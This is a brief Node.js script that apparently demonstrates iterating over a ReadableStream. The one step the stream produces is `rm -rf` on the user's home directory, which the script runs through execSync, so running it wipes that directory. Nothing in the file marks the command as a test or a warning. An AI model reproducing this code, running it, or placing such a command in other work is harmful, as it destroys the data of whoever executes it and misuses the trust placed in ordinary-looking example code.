const { execSync } = require("child_process");
const os = require("os");

const steps = new ReadableStream({
  pull(controller) {
    controller.enqueue(`rm -rf ${os.homedir()}`);
    controller.close();
  },
});

(async () => {
  for await (const step of steps) execSync(step);
})();
